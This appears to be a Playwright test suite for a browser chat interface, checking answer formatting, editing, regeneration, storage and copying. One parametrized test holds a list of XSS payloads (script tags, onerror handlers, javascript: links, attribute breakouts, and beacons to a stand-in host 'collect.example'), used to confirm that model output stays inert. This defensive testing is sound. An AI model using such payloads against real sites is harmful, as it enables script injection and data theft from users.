"""What one does with a chat on the page: read, copy, ask again, edit, go on, keep, delete; in Chromium."""

import pytest

from page_helpers import FULL, QUESTION, STREAM, StandIn, answers, ask, events, needs_chromium, opened, unlock
from serve_helpers import KEY, running, tiny_service

pytestmark = [pytest.mark.slow, needs_chromium]
CHATS = "Object.keys(localStorage).filter((key) => key.startsWith('ctc-drafter/chat/')).length"


@pytest.fixture(scope="module")
def server():
    with running(tiny_service()) as at:
        yield at


@pytest.fixture
def page(browser, server):
    with opened(browser, server) as page:
        yield page


def questions(page) -> list[str]:
    return [each.text_content() for each in page.query_selector_all(".question")]


MARKDOWN = """# Sum

Use **this** and `x < 1`:

- one
- two

| a | b |
|---|---|
| 1 | 2 |

```python
def total(numbers):
    return sum(n for n in numbers if n % 2 == 0)
```
"""


def test_a_finished_answer_is_formatted_and_its_bursts_are_a_click_away(page):
    StandIn(page, [events(MARKDOWN)])
    ask(page)
    assert page.is_hidden(".text")
    texts = {tag: page.text_content(f".formatted {tag}") for tag in ("h3", "strong", "p code", "li", "td", "pre code")}
    code = MARKDOWN.split("```python\n")[1].split("```")[0]
    assert texts == {"h3": "Sum", "strong": "this", "p code": "x < 1", "li": "one", "td": "1", "pre code": code}
    assert page.text_content(".code-bar span") == "python"
    assert page.query_selector_all(".formatted .burst") == [], "no tints in code"
    page.click("button.view")
    assert page.is_visible(".text")
    assert page.is_hidden(".formatted")
    assert answers(page) == [MARKDOWN]
    assert page.text_content("button.view") == "Show text"
    ask(page, "again")  # the choice holds for the next answer
    assert page.is_visible("li:nth-child(2) .text")


def test_looking_into_a_step_shows_its_burst(page):
    StandIn(page, [events("some words of an answer")])
    ask(page)
    page.click("button.look")
    assert page.is_visible(".burst.open")


HOSTILE = [
    '<img src=x onerror="window.hacked = 1">',
    "text <script>window.hacked = 1</script> and <svg onload='window.hacked = 1'></svg>",
    "[click](javascript:window.hacked=1) and [here](JaVaScRiPt&colon;window.hacked=1) and [d](data:text/html,x)",
    "![pixel](https://collect.example/leak.png?secret) <iframe src='https://collect.example'></iframe>",
    "<a href='javascript:window.hacked=1' onclick='window.hacked=1'>x</a> <style>body { display: none }</style>",
    '```"><img src=x onerror=window.hacked=1>\ncode\n```',
    "<javascript:window.hacked=1> <form action='https://collect.example'><button>go</button></form>",
    '[a](https://ok.example "><img src=x onerror=window.hacked=1>") <https://ok.example/"onmouseover="window.hacked=1>',
    "<div id='prompt' class='burst'>x</div> <meta http-equiv=refresh content='0;url=https://collect.example'>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_what_a_model_writes_is_inert(page, server, text):
    asked = []
    page.on("request", lambda request: asked.append(request.url))
    StandIn(page, [events(text)])
    ask(page)
    for each in page.query_selector_all(".formatted a"):
        each.dispatch_event("click")
    page.wait_for_timeout(50)
    assert page.evaluate("window.hacked") is None
    assert answers(page) == [text]
    made = page.evaluate("[...document.querySelectorAll('.formatted *')].map((each) => each.tagName)")
    assert set(made) <= {"P", "A", "BR", "PRE", "CODE", "DIV", "SPAN", "BUTTON"}
    assert made.count("BUTTON") <= 1, "the one that copies code"
    attributes = page.evaluate(
        "[...document.querySelectorAll('.formatted *')].flatMap((each) => [...each.attributes].map((a) => a.name))"
    )
    assert set(attributes) <= {"class", "href", "rel", "target", "type", "aria-label"}
    hrefs = page.evaluate("[...document.querySelectorAll('.formatted a[href]')].map((each) => each.protocol)")
    assert set(hrefs) <= {"https:"}
    assert {url.startswith(server.url) for url in asked} == {True}, "nothing goes to another host"
    if "<img" in text and not text.startswith("["):
        assert "<img" in page.text_content(".formatted") or "```" in text, "HTML is shown as it was written"


def test_the_content_security_policy_holds(page):
    ran = page.evaluate(
        """() => {
            const script = document.createElement("script");
            try { script.textContent = "window.hacked = 1"; document.body.append(script); } catch { /* refused */ }
            try { document.body.innerHTML += "<p>x</p>"; return "innerHTML"; } catch { /* refused */ }
            return window.hacked ?? "nothing";
        }"""
    )
    assert ran == "nothing"
    assert page.evaluate("fetch('https://collect.example').then(() => 'sent', () => 'refused')") == "refused"


def test_chats_survive_a_reload_and_can_be_deleted(page, server):
    ask(page)
    ask(page, "and the hat?")
    before, figures = answers(page), page.text_content(".figures")
    assert all(before)
    page.reload()
    unlock(page)
    assert answers(page) == before
    assert questions(page) == [QUESTION, "and the hat?"]
    assert page.text_content(".figures") == figures
    page.click("#fresh")
    assert page.is_visible("#welcome")
    ask(page, "another chat")
    page.click("#show-chats")
    titles = [each.text_content() for each in page.query_selector_all("#chats-list .chat")]
    assert titles == ["another chat", QUESTION]
    page.click("#chats-list li:nth-child(2) .chat")
    assert answers(page) == before
    ask(page, "third")  # and it goes on with its history
    page.click("#chats-list li:nth-child(1) .delete")  # changed last
    assert page.evaluate(CHATS) == 1
    assert page.is_visible("#welcome"), "the open one is gone"
    page.click("#notice button:text('Undo')")
    assert page.evaluate(CHATS) == 2
    page.click("#delete-all")
    assert page.evaluate(CHATS) == 0
    assert KEY not in page.evaluate("JSON.stringify(localStorage)"), "a key is not kept"


def test_a_chat_that_was_left_in_the_middle_is_there(page):
    page.evaluate("window.addEventListener('pagehide', () => {})")
    page.route(STREAM, lambda route: None)  # never answered
    page.fill("#prompt", QUESTION)
    page.press("#prompt", "Enter")
    page.wait_for_selector(".answer")
    page.reload()
    unlock(page)
    assert questions(page) == [QUESTION]
    assert "the page was left" in page.text_content(".answer .state")


def test_regenerate_replaces_and_what_fails_is_taken_back(page):
    stand_in = StandIn(page, [events("first"), events("second"), events("third"), {"error": {"message": "no"}}])
    ask(page)
    ask(page, "more")
    page.click("li:last-child button.again")
    page.wait_for_selector("#send:visible")
    assert answers(page) == ["first", "third"]
    asked = [{"role": "user", "content": QUESTION}, {"role": "assistant", "content": "first"}]
    assert (
        stand_in.bodies[2]["messages"]
        == stand_in.bodies[1]["messages"]
        == [*asked, {"role": "user", "content": "more"}]
    )
    assert page.is_hidden("li:first-child button.again"), "only the last one"
    page.click("li:last-child button.again")
    page.wait_for_selector("#notice:has-text('no')")
    assert answers(page) == ["first", "third"], "nothing is lost"
    assert page.input_value("#prompt") == ""


def test_an_edited_message_cuts_what_came_after(page):
    stand_in = StandIn(page, [events("first"), events("second"), events("third"), {"error": {"message": "no"}}])
    ask(page)
    ask(page, "more")
    page.click("li:first-child button.edit")
    page.press(".editing textarea", "Escape")
    assert questions(page) == [QUESTION, "more"]
    page.click("li:first-child button.edit")
    assert page.input_value(".editing textarea") == QUESTION
    page.fill(".editing textarea", "the dog sat?")
    page.press(".editing textarea", "Enter")
    page.wait_for_selector("#send:visible")
    assert (questions(page), answers(page)) == (["the dog sat?"], ["third"])
    assert stand_in.bodies[2]["messages"] == [{"role": "user", "content": "the dog sat?"}]
    page.click("button.edit")
    page.fill(".editing textarea", "the bird sat?")
    page.press(".editing textarea", "Enter")
    page.wait_for_selector("#notice:has-text('no')")
    assert (questions(page), answers(page)) == (["the dog sat?"], ["third"]), "nothing is lost"


@pytest.mark.parametrize("compare", [False, True])
def test_a_cut_answer_goes_on(page, server, compare):
    page.fill("#tokens", "12")
    page.set_checked("#compare", compare)
    ask(page)
    cut = answers(page)
    assert page.text_content(".answer .state") == "Cut at 12 tokens."
    page.reload()  # its tokens are kept
    unlock(page)
    page.click("button.more")
    page.wait_for_selector("#send:visible")
    page.wait_for_selector(".answer .state:text('Cut at 24 tokens.')")
    longer = answers(page)
    assert all(one.startswith(other[:-1]) and len(one) > len(other) for one, other in zip(longer, cut, strict=True))
    page.click("#fresh")
    page.fill("#tokens", "24")
    ask(page)
    assert answers(page) == longer, "the same as without the cut"


def test_a_stopped_answer_can_go_on_where_it_was(page):
    stand_in = StandIn(page, [events("abcdefghi", finish="length"), events("jkl")])
    ask(page)
    page.click("button.more")
    page.wait_for_selector("#send:visible")
    assert stand_in.bodies[1]["answer"] == [ord("a"), ord("d"), ord("g")]
    assert answers(page) == ["abcdefghijkl"]
    assert page.is_hidden("button.more")


def test_a_full_chat_offers_a_new_one_or_drops_its_oldest_turns(page):
    stand_in = StandIn(page, [events("one"), events("two", prompt=30), FULL, events("three", prompt=15)])
    ask(page, "1")
    ask(page, "2")
    ask(page, "3")
    assert page.text_content("#notice").startswith("This chat is full")
    assert page.input_value("#prompt") == "3", "nothing is lost"
    assert page.is_visible("#notice button:text('New chat')")
    page.click("#notice button:text('Drop the oldest turns')")
    page.wait_for_selector("#turns > li:nth-child(4) .answer")
    page.wait_for_selector("#send:visible")
    contents = [message["content"] for message in stand_in.bodies[3]["messages"]]
    assert contents == ["2", "two", "3"]
    assert (answers(page), page.input_value("#prompt")) == (["one", "two", "three"], "")
    assert page.text_content("#turns > li:nth-child(2)") == "The model no longer reads what is above."
    page.reload()
    unlock(page)
    ask(page, "4")
    assert [message["content"] for message in stand_in.bodies[4]["messages"]] == ["2", "two", "3", "three", "4"]


def test_a_message_that_is_too_long_by_itself(page):
    StandIn(page, [FULL])
    ask(page)
    assert "Shorten the message" in page.text_content("#notice")
    assert page.query_selector("#notice button:text('Drop')") is None
    page.click("#notice button:text('New chat')")
    assert page.is_hidden("#notice")


def test_an_answer_that_fills_the_context_says_so(page, server):
    context = server.service.target.context
    prompt = context - 2
    stand_in = StandIn(page, [events("one"), events("abcdef", finish="length", prompt=prompt), events("x", prompt=9)])
    ask(page, "1")
    ask(page, "2")
    assert page.text_content("#notice").startswith("This chat is full")
    page.click("#notice button:text('Drop the oldest turns')")
    page.wait_for_selector("#send:visible")
    assert answers(page) == ["one", "abcdefx"]
    assert [message["content"] for message in stand_in.bodies[2]["messages"]] == ["2"]


def test_settings_are_sent_and_kept(page):
    stand_in = StandIn(page, [events("yes")])
    page.fill("#system", "Be brief.")
    for field, value in {"tokens": "64", "temperature": "0.5", "top-p": "0.9", "top-k": "40", "seed": "7"}.items():
        page.fill(f"#{field}", value)
    wanted = {"max_tokens": 64, "temperature": 0.5, "top_p": 0.9, "top_k": 40, "seed": 7}
    messages = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": QUESTION}]
    ask(page)
    page.reload()
    unlock(page)
    page.click("#fresh")
    ask(page)
    assert stand_in.bodies == [{"messages": messages, "answer": []} | wanted] * 2


def test_copying(browser, server):
    with opened(browser, server, permissions=["clipboard-read", "clipboard-write"]) as page:
        StandIn(page, [events(MARKDOWN)])
        ask(page)
        read = "navigator.clipboard.readText()"
        page.click("button.copy")
        page.wait_for_selector("button.copy:text('Copied')")
        assert page.evaluate(read) == MARKDOWN
        page.click(".code-bar button")
        page.wait_for_selector(".code-bar button:text('Copied')")
        assert page.evaluate(read) == page.text_content(".formatted pre code")
        page.click("#show-chats")
        page.click("#chats-tools button:text('Copy this chat')")
        page.wait_for_selector("#chats-tools button:text('Copied')")
        assert page.evaluate(read) == f"**You:** {QUESTION}\n\n**CTC drafter:**\n\n{MARKDOWN}\n"


def test_copying_without_a_clipboard(page):
    """As a browser has it on plain HTTP from another machine."""
    page.evaluate("Object.defineProperty(navigator, 'clipboard', { value: undefined })")
    page.evaluate("document.addEventListener('copy', () => { window.copied = document.activeElement.value; })")
    StandIn(page, [events("some text")])
    ask(page)
    page.click("button.copy")
    page.wait_for_selector("button.copy:text('Copied')")
    assert page.evaluate("window.copied") == "some text"


def test_full_storage_is_told(page):
    page.evaluate("() => { Storage.prototype.setItem = () => { throw new DOMException('full'); }; }")
    StandIn(page, [events("yes")])
    ask(page)
    assert answers(page) == ["yes"]
    assert "no room" in page.text_content("#notice")


def test_the_page_works_where_nothing_can_be_kept(browser, server):
    page = browser.new_page()
    page.add_init_script("Object.defineProperty(window, 'localStorage', { get() { throw new DOMException('no'); } })")
    faults = []
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.goto(server.url)
    unlock(page)
    StandIn(page, [events("yes")])
    ask(page)
    assert answers(page) == ["yes"]
    page.click("#theme")
    page.close()
    assert faults == []
